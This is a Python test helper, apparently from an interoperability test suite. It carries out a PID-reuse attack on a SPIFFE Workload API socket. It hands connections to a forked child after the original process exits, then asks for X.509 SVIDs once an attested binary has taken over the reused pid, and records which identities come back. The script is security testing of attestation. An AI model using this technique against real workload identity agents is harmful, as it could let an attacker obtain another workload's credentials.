"""The pid-reuse attack on a Workload API, for node_interop.py.

    python node_pid_reuse.py SOCKET PIDFILE GOFILE RESULT

Connects twice to the Workload API's unix socket, writes its pid to PIDFILE, forks, and exits at once, leaving the
connections to its child. Before that it sends FetchX509SVID on the first connection (the control: the process that
connected is alive; writes RESULT.control). The child waits for GOFILE (the test has by then started an attested binary
with the dead parent's pid) and sends FetchX509SVID on the second connection, writing to RESULT what came back:
"grpc-status N" and the SPIFFE IDs of any SVIDs. Speaks HTTP/2 with h2 over the inherited sockets (grpcio cannot
adopt a socket).
"""
import os
import re
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events


def fetch_x509(sock: socket.socket, deadline: float) -> str:
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
                               (":path", "/SpiffeWorkloadAPI/FetchX509SVID"), ("content-type", "application/grpc"),
                               ("te", "trailers"), ("workload.spiffe.io", "true")])
    conn.send_data(stream, b"\x00" + struct.pack(">I", 0), end_stream=True)  # X509SVIDRequest{}: empty
    sock.sendall(conn.data_to_send())
    body = b""
    status = None
    sock.settimeout(1)
    while status is None and time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.DataReceived):
                body += event.data
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if len(body) > 5:  # one message is enough: a stream would go on
                    status = "0 (a message arrived)"
            elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for k, v in event.headers:
                    if k in (b"grpc-status", "grpc-status"):
                        status = v.decode() if isinstance(v, bytes) else v
        sock.sendall(conn.data_to_send())
    ids = sorted({m.decode() for m in re.findall(rb"spiffe://[\x21-\x7e]+", body)})
    return f"grpc-status {status}\nbody {len(body)} bytes\nids {' '.join(ids)}\n"


def main():
    path, pidfile, gofile, result = sys.argv[1:5]
    first = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    first.connect(path)
    second = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    second.connect(path)
    # The control, while the process that connected lives: it is attested as what it is.
    with open(result + ".control", "w") as f:
        f.write(fetch_x509(first, time.monotonic() + 15))
    with open(pidfile, "w") as f:
        f.write(str(os.getpid()))
    if os.fork() != 0:
        os._exit(0)  # the process that connected is gone; its child holds the connections
    try:
        deadline = time.monotonic() + 60
        while not os.path.exists(gofile) and time.monotonic() < deadline:
            time.sleep(0.05)
        text = fetch_x509(second, time.monotonic() + 15)
    except Exception as e:  # noqa: BLE001
        text = f"error {type(e).__name__}: {e}\n"
    with open(result + ".tmp", "w") as f:
        f.write(text)
    os.rename(result + ".tmp", result)
    os._exit(0)


if __name__ == "__main__":
    main()
